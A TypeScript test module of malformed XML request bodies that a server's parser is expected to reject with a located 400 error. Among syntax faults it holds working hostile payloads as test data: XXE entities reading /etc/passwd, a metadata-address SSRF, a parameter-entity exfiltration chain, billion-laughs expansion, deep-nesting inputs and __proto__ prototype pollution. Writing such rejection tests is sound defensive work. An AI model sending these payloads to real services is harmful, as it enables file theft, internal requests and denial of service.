import { canary, framed, marked, utf8, type Expected, type MalformedRequest, type Subject } from './request.js';

const type = 'application/xml';
const invalid = { status: 400, code: 'invalid_body' } as const;
const place = /line \d+, column \d+/;

/** XML whose fault is where “¦” stands. */
function broken(name: string, document: string, how: { type?: string; method?: string } = {}): MalformedRequest {
  const { text, ...at } = marked(document);
  return {
    name: `XML: ${name}`,
    wire: framed({ type, ...how, body: utf8(text) }),
    expected: { ...invalid, ...at, says: place },
  };
}

function bytes(
  name: string,
  body: Buffer | (() => Buffer),
  expected: Expected = { ...invalid, says: place },
): MalformedRequest {
  return { name: `XML: ${name}`, wire: framed({ type, body }), expected };
}

const tags: MalformedRequest[] = [
  broken('an empty body', ''),
  broken('white space alone', ' \n '),
  broken('a declaration alone', '<?xml version="1.0"?>'),
  broken('a comment alone', '<!-- a -->'),
  broken('text alone', `¦${canary}`),
  broken('JSON', '¦{"a": 1}'),
  broken('an element without its end', '¦<pet><name>Gromit</name>'),
  broken('an inner element without its end', '<pet>\n  <name>Gromit\n¦</pet>'),
  broken('elements that end in the wrong order', '<pet><name>Gromit¦</pet></name>'),
  broken('an end tag in other letters', '<pet>¦</Pet>'),
  broken('an end tag too many', '<pet></pet>¦</pet>'),
  broken('an end tag alone', '¦</pet>'),
  broken('an end tag with an attribute', '<pet>¦</pet a="b">'),
  broken('an end tag that does not end', '<pet>¦</pet'),
  broken('a tag that does not end', '<pet¦'),
  broken('a tag that ends within an attribute', `<pet name="${canary}`),
  broken('a tag that ends after a slash', '<pet¦/'),
  broken('a slash and a space before the end of a tag', '<pet¦/ >'),
  broken('two elements at the top', '<pet/>\n¦<pet/>'),
  broken('text before the element', '¦Gromit <pet/>'),
  broken('text after the element', '<pet/> ¦Gromit'),
  broken('a NUL after the element', '<pet/>¦\0'),
  broken('CDATA after the element', '<pet/>¦<![CDATA[Gromit]]>'),
  broken('a “<” as text', '<pet>1 ¦< 2</pet>'),
  broken('a “<” at the end', '<pet/>¦<'),
  broken('an empty tag', '<pet>¦<></></pet>'),
  broken('a space before the name of an element', '<pet>¦< name/></pet>'),
  broken('a tag within a tag', '<pet ¦<name/>></pet>'.replace(' ¦', '¦ ')),
];

const names: MalformedRequest[] = [
  ...['1pet', '-pet', '.pet', '@pet', '$', '\u00d7', '\u0300a'].map((name) =>
    broken(`an element with the name ${name}`, `<pets>¦<${name}/></pets>`),
  ),
  broken('an element with a name that contains ;', '<a¦;b/>'),
  broken('an element with a name that contains a NUL', '<a¦\0b/>'),
  broken('an attribute without a value', '<pet¦ name/>'),
  broken('an attribute without quotes', '<pet¦ name=Gromit/>'),
  broken('an attribute with quotes of two kinds', `<pet¦ name="Gromit'/>`),
  broken('an attribute with typographic quotes', '<pet¦ name=“Gromit”/>'),
  broken('an attribute with a name that begins with a digit', '<pet¦ 1="a"/>'),
  broken('an attribute with a “<” in its value', '<pet¦ name="a<b"/>'),
  broken('an attribute twice', '<pet name="a"¦ name="b"/>'),
  broken('attributes without a space between them', '<pet a="b"¦c="d"/>'),
  broken('an attribute after the slash', '<pet¦/a="b">'),
  broken('an equals sign alone', '<pet¦ ="a"/>'),
];

const sections: MalformedRequest[] = [
  broken('a comment without its end', '<pet>¦<!-- a</pet>'),
  broken('a comment with two dashes', '<pet><!-- a ¦-- b --></pet>'),
  broken('a comment that ends with three dashes', '<pet><!-- a ¦---></pet>'),
  broken('CDATA without its end', '<pet>¦<![CDATA[ a</pet>'),
  broken('CDATA in lower case', '<pet>¦<![cdata[ a ]]></pet>'),
  broken('the end of CDATA without a beginning', '<pet>a ¦]]></pet>'),
  broken('a processing instruction without its end', '<pet>¦<?php a</pet>'),
  broken('a processing instruction without a name', '<pet>¦<? a ?></pet>'),
  broken('a conditional section', '<pet>¦<![INCLUDE[ a ]]></pet>'),
];

const declarations: MalformedRequest[] = [
  broken('a space before the declaration', ' ¦<?xml version="1.0"?><pet/>'),
  broken('a comment before the declaration', '<!-- a -->¦<?xml version="1.0"?><pet/>'),
  broken('two declarations', '<?xml version="1.0"?>\n¦<?xml version="1.0"?><pet/>'),
  broken('a declaration within the element', '<pet>¦<?xml version="1.0"?></pet>'),
  broken('a declaration without a version', '¦<?xml encoding="utf-8"?><pet/>'),
  broken('a declaration of version 2.0', '¦<?xml version="2.0"?><pet/>'),
  broken('a declaration without quotes', '¦<?xml version=1.0?><pet/>'),
  broken('a declaration in the wrong order', '¦<?xml encoding="utf-8" version="1.0"?><pet/>'),
  broken('a declaration in upper case', '¦<?XML version="1.0"?><pet/>'),
  broken('a declaration that does not end', '¦<?xml version="1.0"><pet/>'),
  broken('a declaration that stands alone perhaps', '¦<?xml version="1.0" standalone="perhaps"?><pet/>'),
  bytes('a declaration of an encoding that nobody knows', utf8('<?xml version="1.0" encoding="klingon"?><pet/>'), {
    status: [400, 415],
  }),
  bytes(
    'a declaration of an encoding that the bytes are not in',
    Buffer.from('<?xml version="1.0" encoding="utf-8"?><a>ä</a>', 'latin1'),
    {
      ...invalid,
      says: /UTF-8|charset/,
    },
  ),
];

const document = /DOCTYPE/;
/** A document type is refused whatever is in it, where it begins. */
function typed(name: string, text: string): MalformedRequest {
  const at = text.lastIndexOf('<!DOCTYPE');
  const { text: body, ...expectedPlace } = marked(`${text.slice(0, at)}¦${text.slice(at)}`);
  return {
    name: `XML: ${name}`,
    wire: framed({ type, body: utf8(body) }),
    expected: { ...invalid, ...expectedPlace, says: document },
  };
}

const entity = (name: string, value: string): string => `<!ENTITY ${name} ${value}>`;
const laughs = Array.from({ length: 10 }, (_item, at) =>
  entity(`lol${at + 1}`, `"${`&lol${at === 0 ? '' : at};`.repeat(10)}"`),
);
const attacks: MalformedRequest[] = [
  typed('a document type', '<!DOCTYPE pet><pet/>'),
  typed('a document type after a declaration', '<?xml version="1.0"?>\n<!DOCTYPE pet>\n<pet/>'),
  typed('a document type of HTML', '<!DOCTYPE html><html/>'),
  typed('a document type with a public name', '<!DOCTYPE pet PUBLIC "-//a//b" "http://127.0.0.1:9/a.dtd"><pet/>'),
  typed('a document type from elsewhere', '<!DOCTYPE pet SYSTEM "http://127.0.0.1:9/a.dtd"><pet/>'),
  typed('a document type that does not end', '<!DOCTYPE pet ['),
  typed('an entity', `<!DOCTYPE pet [${entity('a', '"b"')}]><pet>&a;</pet>`),
  typed('a billion laughs', `<!DOCTYPE lolz [${entity('lol', '"lol"')}${laughs.join('')}]><lolz>&lol10;</lolz>`),
  typed(
    'a billion laughs in an attribute',
    `<!DOCTYPE a [${entity('lol', '"lol"')}${laughs.join('')}]><a b="&lol10;"/>`,
  ),
  typed(
    'a quadratic blow-up',
    `<!DOCTYPE a [${entity('a', `"${'x'.repeat(50_000)}"`)}]><a>${'&a;'.repeat(50_000)}</a>`,
  ),
  typed('an entity that is itself', `<!DOCTYPE a [${entity('a', '"&a;"')}]><a>&a;</a>`),
  typed('two entities that are each other', `<!DOCTYPE a [${entity('a', '"&b;"')}${entity('b', '"&a;"')}]><a>&a;</a>`),
  typed('an entity from a file', `<!DOCTYPE a [${entity('x', 'SYSTEM "file:///etc/passwd"')}]><a>&x;</a>`),
  typed(
    'an entity from a device that never ends',
    `<!DOCTYPE a [${entity('x', 'SYSTEM "file:///dev/random"')}]><a>&x;</a>`,
  ),
  typed('an entity from a server', `<!DOCTYPE a [${entity('x', 'SYSTEM "http://169.254.169.254/latest"')}]><a>&x;</a>`),
  typed('an entity from a public name', `<!DOCTYPE a [${entity('x', 'PUBLIC "a" "http://127.0.0.1:9/a"')}]><a>&x;</a>`),
  typed('a parameter entity', `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:9/a.dtd"> %x;]><a/>`),
  typed(
    'a parameter entity that sends a file away',
    `<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % x "<!ENTITY &#37; s SYSTEM 'http://127.0.0.1:9/?%f;'>">%x;%s;]><a/>`,
  ),
  typed('an entity that replaces one of XML', `<!DOCTYPE a [${entity('lt', '"&#38;#60;"')}]><a>&lt;</a>`),
  typed('attributes with defaults', '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>'),
  typed('a notation', '<!DOCTYPE a [<!NOTATION n SYSTEM "calc.exe">]><a/>'),
  broken('a document type in lower case', '¦<!doctype pet><pet/>'),
  broken('a document type within the element', '<pet>¦<!DOCTYPE pet></pet>'),
  broken('an entity without a document type', `<pet>¦${entity('a', '"b"')}</pet>`),
  broken(
    'an inclusion of a file that is not well-formed',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/>'.replace('<a ', '¦<a '),
  ),
];

const references: MalformedRequest[] = [
  ...[
    '&nbsp;',
    '&',
    '& ',
    '&amp',
    '&;',
    '&#;',
    '&#x;',
    '&#xZZ;',
    '&#0;',
    '&#x0;',
    '&#8;',
    '&#xD800;',
    '&#xFFFF;',
    '&#x110000;',
    '&#99999999999;',
    '&#-1;',
    '&AMP;',
    '&a.b;',
  ].map((reference) => broken(`the reference ${reference}`, `<pet>a ¦${reference}</pet>`)),
  broken('a reference that is not known on the third line', '<pet>\n  <a>&amp;&lt;</a>\r\n  <b>¦&copy;</b>\n</pet>'),
  bytes('a reference that is not known in an attribute', utf8('<pet name="&copy;"/>'), {
    ...invalid,
    line: 1,
    says: place,
  }),
];

const characters: MalformedRequest[] = [
  ...[0x00, 0x01, 0x08, 0x0b, 0x0c, 0x1f].map((code) =>
    broken(`the character U+${code.toString(16).padStart(4, '0')}`, `<pet>a¦${String.fromCharCode(code)}</pet>`),
  ),
  broken('the character U+FFFF', '<pet>a¦\uffff</pet>'),
  bytes('a byte that UTF-8 never has', Buffer.from('3c613eff3c2f613e', 'hex'), { ...invalid, says: /UTF-8/ }),
  bytes('a character that is cut', Buffer.from('3c613ee2823c2f613e', 'hex'), { ...invalid, says: /UTF-8/ }),
  bytes('UTF-16 that breaks off', Buffer.from('fffe3c0061002f003e', 'hex'), { ...invalid }),
];

const depth = 100_000;
const tooDeep = { ...invalid, says: /levels deep/ };
const nested: MalformedRequest[] = [
  bytes('100,000 elements within each other', utf8('<a>'.repeat(depth) + '</a>'.repeat(depth)), tooDeep),
  bytes('100,000 elements that do not end', utf8('<a>'.repeat(depth)), tooDeep),
  bytes(
    '100,000 elements of different names',
    utf8(Array.from({ length: depth }, (_item, at) => `<a${at}>`).join('')),
    tooDeep,
  ),
  bytes('100,000 elements with attributes', utf8('<a b="c">'.repeat(depth)), tooDeep),
  bytes('3,000,000 elements', () => utf8('<a>'.repeat(3_000_000)), tooDeep),
  bytes('100,000 beginnings of comments', utf8(`<a>${'<!--'.repeat(depth)}`), { ...invalid, line: 1, says: place }),
  bytes('100,000 beginnings of CDATA', utf8('<a>' + '<![CDATA['.repeat(depth)), { ...invalid, line: 1, column: 4 }),
  bytes('a million “<”', utf8('<'.repeat(1_000_000)), { ...invalid, line: 1, column: 1 }),
  bytes('a million “&”', utf8(`<a>${'&'.repeat(1_000_000)}</a>`), { ...invalid, line: 1, column: 4 }),
  bytes('a tag of a million spaces without an end', utf8(`<a${' '.repeat(1_000_000)}`), { ...invalid, line: 1 }),
  bytes('a name of a million letters without an end', utf8(`<${'a'.repeat(1_000_000)}`), { ...invalid, line: 1 }),
  bytes('an attribute of a million letters without an end', utf8(`<a b="${'c'.repeat(1_000_000)}`), {
    ...invalid,
    line: 1,
  }),
  bytes(
    '100,000 attributes, the last of which is there twice',
    utf8(`<a ${Array.from({ length: depth }, (_item, at) => `a${at}="b"`).join(' ')} a0="c"/>`),
    { ...invalid, line: 1 },
  ),
  bytes('nine million line feeds without an element', () => Buffer.alloc(9_000_000, '\n')),
  bytes(
    'a fault after nine million line feeds',
    () => Buffer.concat([utf8('<a>'), Buffer.alloc(9_000_000, '\n'), utf8('</b>')]),
    {
      ...invalid,
      line: 9_000_001,
      column: 1,
    },
  ),
];

const prototypes: MalformedRequest[] = [
  ['an element __proto__', '¦<__proto__><admin>true</admin></__proto__>'],
  ['an element __proto__ within another', '<a><b>¦<__proto__/></b></a>'],
  ['an element __proto__ on the second line', `<a>\n  ¦<__proto__>${canary}</__proto__>\n</a>`],
  ['an element __proto__ with an attribute', '<a>¦<__proto__ b="c"/></a>'],
  ['elements constructor and prototype', '<a><constructor>¦<prototype><b/></prototype></constructor></a>'],
].map(([name = '', text = '']) => {
  const { expected, ...request } = broken(name, text);
  return { ...request, expected: { ...expected, says: /__proto__/ } };
});

const ofOtherRequests: MalformedRequest[] = [
  broken('a fault under text/xml', '<pet>¦</Pet>', { type: 'text/xml' }),
  broken('a fault in a SOAP message', '<Envelope><Body>¦</Envelope>', { type: 'application/soap+xml; charset=utf-8' }),
  broken('a fault in an Atom feed', '<feed><entry>¦</feed>', { type: 'application/atom+xml' }),
  broken('a fault in a PUT', '<pet>¦</Pet>', { method: 'PUT' }),
  broken('a fault in the body of a GET', '<pet>¦</Pet>', { method: 'GET' }),
];

export const xml: Subject = {
  name: 'XML',
  requests: [
    ...tags,
    ...names,
    ...sections,
    ...declarations,
    ...attacks,
    ...references,
    ...characters,
    ...nested,
    ...prototypes,
    ...ofOtherRequests,
  ],
};
